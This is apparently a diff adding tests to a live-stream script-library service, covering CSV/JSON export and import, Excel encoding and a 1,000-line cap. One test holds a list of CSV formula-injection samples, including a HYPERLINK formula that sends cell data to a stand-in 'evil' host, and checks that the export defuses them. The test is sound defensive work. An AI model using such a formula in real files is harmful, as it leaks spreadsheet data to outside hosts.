@@ -99,7 +99,8 @@ async def test_scripts_export_and_import_as_csv_and_json(room):
         added = await http.post("/api/rooms/r1/scripts?format=csv", content=csv.encode(), headers=headers)
         assert added.status_code == 200 and added.json()["type"] == "ack"
         exported = await http.get("/api/rooms/r1/scripts?format=csv", headers=headers)
-        assert exported.text == csv
+        assert exported.content == b"\xef\xbb\xbf" + csv.replace("\n", "\r\n").encode()  # for Excel: a BOM, CRLF
+        assert exported.headers["content-type"] == "text/csv; charset=utf-8"
         as_json = (await http.get("/api/rooms/r1/scripts", headers=headers)).json()["lines"]
         assert [line["text"] for line in as_json] == ["欢迎{宝宝/家人们}", "{product} 只要 {price}, 快"]
         bad = await http.post("/api/rooms/r1/scripts?format=csv", content=b"purpose,text\nshout,x\n", headers=headers)
@@ -192,3 +193,65 @@ async def test_a_segment_fires_as_whoever_set_it_whoever_drives_the_show(room):
     await controller.send(alert["action"])
     await controller.recv_type("ack")
     assert (await store.coupons(ROOM))[0].pushed_at is not None
+
+
+TYPED = ["=HYPERLINK(\"http://evil/?\"&A1,\"点我\")", "+1 扣1", "-4792", "@SUM(1+1)", "'=已经引号", "＝全角", "欢迎\"家人们\", 快"]
+
+
+async def test_an_exported_library_opens_inert_and_imports_back_the_same(room):
+    """Lines that would run as formulas are written with a quote in front; importing
+    the exported file in place of the library gives the same lines back."""
+    import csv
+    import io
+
+    headers = {"Authorization": f"Bearer {room.token('controller')}"}
+    lines = [{"purpose": "qa", "tier": "hot", "sku": None, "product_role": None, "text": text} for text in TYPED]
+    async with room.http() as http:
+        assert (await http.post("/api/rooms/r1/scripts?format=json", json=lines, headers=headers)).status_code == 200
+        exported = (await http.get("/api/rooms/r1/scripts?format=csv", headers=headers)).content
+        cells = [row[-1] for row in csv.reader(io.StringIO(exported.decode("utf-8-sig"), newline=""))][1:]
+        assert cells == ["'" + TYPED[0], "'+1 扣1", "'-4792", "'@SUM(1+1)", "''=已经引号", "'＝全角", TYPED[6]]
+        again = await http.post("/api/rooms/r1/scripts?format=csv&replace=1", content=exported, headers=headers)
+        assert again.status_code == 200, again.text
+    library = await room.app.state.live.store.scripts("r1")
+    assert [line.text for line in library] == TYPED and len(library) == len(TYPED)
+
+
+async def test_a_library_saved_by_excel_in_gbk_imports(room):
+    headers = {"Authorization": f"Bearer {room.token('controller')}"}
+    csv = "purpose,tier,text\r\nwelcome,cold,欢迎家人们，点点关注\r\nhold,any,'=别走\r\n"
+    async with room.http() as http:
+        added = await http.post("/api/rooms/r1/scripts?format=csv", content=csv.encode("gb18030"), headers=headers)
+        assert added.status_code == 200, added.text
+        assert [line.text for line in await room.app.state.live.store.scripts("r1")] == ["欢迎家人们，点点关注", "=别走"]
+        utf16 = await http.post("/api/rooms/r1/scripts?format=csv", content=csv.encode("utf-16"), headers=headers)
+        assert utf16.status_code == 400 and utf16.json()["code"] == "file_encoding"
+    assert len(await room.app.state.live.store.scripts("r1")) == 2
+
+
+def _lines(n: int, text: str = "x") -> list[dict]:
+    return [{"purpose": "qa", "text": f"{text}{i}"} for i in range(n)]
+
+
+async def test_the_library_cap_holds_on_every_path(room):
+    """Socket, HTTP command, CSV import and JSON import all stop at 1,000 lines with
+    `script_library_full` and its numbers; none changes the library."""
+    headers = {"Authorization": f"Bearer {room.token('controller')}"}
+    controller = await room.staff("controller")
+    await controller.send({"type": "add_script_lines", "lines": _lines(600)})
+    await controller.recv_type("ack")
+    await controller.send({"type": "add_script_lines", "lines": _lines(401)})
+    refused = await controller.recv_type("error")
+    assert (refused["code"], refused["params"]) == ("script_library_full", {"limit": 1000, "lines": 1001})
+    csv = "purpose,text\n" + "".join(f"qa,c{i}\n" for i in range(1001))
+    async with room.http() as http:
+        answers = [
+            await http.post("/api/rooms/r1/commands", json={"type": "add_script_lines", "lines": _lines(401)}, headers=headers),
+            await http.post("/api/rooms/r1/scripts?format=csv", content=csv.encode(), headers=headers),
+            await http.post("/api/rooms/r1/scripts?format=csv&replace=1", content=csv.encode(), headers=headers),
+            await http.post("/api/rooms/r1/scripts?format=json", json=_lines(401), headers=headers),
+        ]
+    for answer, lines in zip(answers, (1001, 1601, 1001, 1001)):
+        assert answer.status_code == 409, answer.text
+        assert (answer.json()["code"], answer.json()["params"]) == ("script_library_full", {"limit": 1000, "lines": lines})
+    assert len(await room.app.state.live.store.scripts("r1")) == 600
